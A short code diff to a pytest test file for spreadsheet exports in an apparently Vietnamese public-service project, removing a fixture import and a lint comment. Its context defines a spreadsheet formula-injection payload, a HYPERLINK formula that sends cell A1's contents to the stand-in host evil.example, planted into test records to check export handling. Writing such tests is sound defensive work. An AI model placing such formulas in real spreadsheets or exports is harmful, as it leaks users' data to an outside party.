@@ -13,7 +13,6 @@ from openpyxl import load_workbook
 
 from motcua.core import exports
 from motcua.org.models import Role
-from motcua.surveys.tests.conftest import make_dossier  # noqa: F401  (fixture)
 
 pytestmark = pytest.mark.django_db
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
@@ -31,7 +30,7 @@ EXPORTS = {
 
 
 @pytest.fixture
-def planted(make_dossier, province, ward_a):  # noqa: F811
+def planted(make_dossier, province, ward_a):
     """A returned dossier of ward A whose texts all carry the payload, rated with a payload comment."""
     from motcua.catalog.models import Procedure
     from motcua.dossiers.models import Dossier, DossierEvent
